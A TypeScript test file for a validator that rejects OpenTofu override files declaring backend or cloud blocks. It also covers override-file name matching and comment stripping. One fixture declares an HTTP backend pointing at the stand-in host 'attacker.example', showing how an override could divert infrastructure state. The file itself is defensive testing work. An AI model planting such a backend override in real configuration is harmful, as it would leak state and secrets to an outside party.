import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { backendOverrides, isOverrideFile, stripCommentsAndStrings } from "./override-files.ts";

describe("override files that would move a Stack's state", () => {
  it("knows which files OpenTofu reads as overrides", () => {
    for (const name of ["override.tf", "zz_override.tf", "a_override.tf.json", "override.tf.json"]) {
      assert.ok(isOverrideFile(name), name);
    }
    for (const name of ["main.tf", "overrides.tf", "myoverride.tf", "override.tf.bak", "x_override.tfvars"]) {
      assert.ok(!isOverrideFile(name), name);
    }
  });

  it("refuses an override file declaring a backend, whatever its name sorts as", () => {
    const text = 'terraform {\n  backend "http" {\n    address = "https://attacker.example/state"\n  }\n}\n';
    assert.deepEqual(backendOverrides([{ name: "zzz_override.tf", text }]), [
      "zzz_override.tf declares a backend block",
    ]);
    assert.deepEqual(backendOverrides([{ name: "override.tf", text: "terraform {\n  cloud {\n  }\n}\n" }]), [
      "override.tf declares a cloud block",
    ]);
  });

  it("refuses backend and cloud blocks in JSON override files, and JSON it cannot read", () => {
    const backend = JSON.stringify({ terraform: { backend: { local: { path: "/tmp/x" } } } });
    const cloud = JSON.stringify({ terraform: [{ cloud: {} }] });
    assert.deepEqual(
      backendOverrides([
        { name: "a_override.tf.json", text: backend },
        { name: "b_override.tf.json", text: cloud },
        { name: "c_override.tf.json", text: "{ not json" },
      ]),
      [
        "a_override.tf.json declares a backend block",
        "b_override.tf.json declares a cloud block",
        "c_override.tf.json is not valid JSON",
      ],
    );
  });

  it("accepts override files that change other things, and backend blocks outside override files", () => {
    const files = [
      { name: "main.tf", text: 'terraform {\n  backend "s3" {}\n}\n' },
      {
        name: "dev_override.tf",
        text: [
          '# a backend "s3" { in a comment',
          'resource "terraform_data" "a" {',
          '  input = "backend \\"x\\" { cloud {"',
          "  /* cloud { */",
          "}",
          "",
        ].join("\n"),
      },
      { name: "_mooring_backend_override.tf", text: 'terraform {\n  backend "kubernetes" {}\n}\n' },
      { name: "x_override.tf.json", text: JSON.stringify({ resource: { terraform_data: { b: {} } } }) },
    ];
    assert.deepEqual(backendOverrides(files), []);
  });

  it("blanks strings and drops comments without losing the code around them", () => {
    assert.equal(stripCommentsAndStrings('a = "x#y" # c\nb = 1 // d\n/* e */c'), 'a = "" \nb = 1 \n c');
  });
});
